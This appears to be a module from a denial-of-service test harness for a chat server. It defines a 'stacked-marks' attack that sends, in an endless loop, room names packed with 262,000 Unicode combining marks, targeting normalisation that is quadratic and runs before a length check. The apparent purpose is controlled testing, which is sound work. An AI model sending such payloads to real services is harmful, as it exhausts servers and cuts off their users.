/**
 * A room's name that is one letter under 262,000 combining marks.
 *
 * @module
 */

import type { Attack } from "../attack.ts";
import { frame, login } from "../bytes.ts";

const LEAVE = frame({ type: "Leave", room: `a${"\u0315\u0300".repeat(131_000)}`, id: "l" });

/** The attack. */
export const stackedMarks: Attack = {
  name: "stacked-marks",
  root: "normalising is quadratic in stacked marks, and came before the length was judged",
  bound: { connections: 4, connectsPerSecond: 20, bytesPerSecond: 32 << 20 },
  *peer({ name }) {
    yield login(name);
    for (;;) yield LEAVE;
  },
};
